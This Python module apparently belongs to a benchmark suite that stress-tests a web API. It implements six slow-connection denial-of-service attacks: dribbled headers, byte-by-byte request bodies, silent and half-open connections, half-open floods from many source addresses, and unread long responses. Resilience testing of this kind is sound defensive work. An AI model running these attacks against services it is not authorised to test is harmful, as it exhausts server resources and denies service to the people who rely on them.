"""Connections that are held and hardly used: what counts is how many there are, and for how long."""

import asyncio
from dataclasses import replace

from bench.attacks.wire import Effort, Line, Outcome, Target, assault

PAUSE = 0.5
HOMES = 50


async def slow_headers(target: Target, effort: Effort) -> Outcome:
    """A header now and then, so that the connection never looks idle."""

    async def act(line: Line, _: Outcome) -> None:
        await line.send(target.head("GET", "/health"))
        await _dribble(line, b"X-Slow: a\r\n")

    return await assault(target, effort, effort.crowd, act)


async def slow_bodies(target: Target, effort: Effort) -> Outcome:
    """A body that was announced and comes byte by byte."""

    async def act(line: Line, _: Outcome) -> None:
        await line.send(target.head("POST", "/api/1/tables", "Content-Length: 60000") + b"\r\n")
        await _dribble(line, b" ")

    return await assault(target, effort, effort.crowd, act)


async def silent_connections(target: Target, effort: Effort) -> Outcome:
    """Connections on which nothing is ever said."""

    async def act(line: Line, _: Outcome) -> None:
        await line.reader.readexactly(1)

    return await assault(target, effort, effort.crowd, act)


async def half_open_requests(target: Target, effort: Effort) -> Outcome:
    """The beginning of a request on each of many connections, and then nothing."""

    async def act(line: Line, _: Outcome) -> None:
        await line.send(target.head("GET", "/health"))
        await line.reader.readexactly(1)

    return await assault(target, effort, effort.crowd, act)


async def half_open_from_everywhere(target: Target, effort: Effort) -> Outcome:
    """The same from more addresses than can be counted one by one."""
    sources = [f"{target.source.rpartition('.')[0]}.{end}" for end in range(2, 2 + HOMES)] if target.source else [None]
    share = replace(effort, crowd=3 * effort.crowd // len(sources))
    homes = [half_open_requests(replace(target, source=source), share) for source in sources]
    return sum(await asyncio.gather(*homes), Outcome())


async def unread_answers(target: Target, effort: Effort) -> Outcome:
    """Long answers that nobody reads, on each of many connections."""

    async def act(line: Line, _: Outcome) -> None:
        line.stop_reading()
        while True:
            await line.send(target.head("GET", "/api/1/openapi.json") + b"\r\n")
            await asyncio.sleep(PAUSE)

    return await assault(target, effort, effort.crowd, act)


async def _dribble(line: Line, drop: bytes) -> None:
    while not line.reader.at_eof():
        await line.send(drop)
        await asyncio.sleep(PAUSE)
    raise ConnectionResetError


ATTACKS = (slow_headers, slow_bodies, silent_connections, half_open_requests, half_open_from_everywhere, unread_answers)
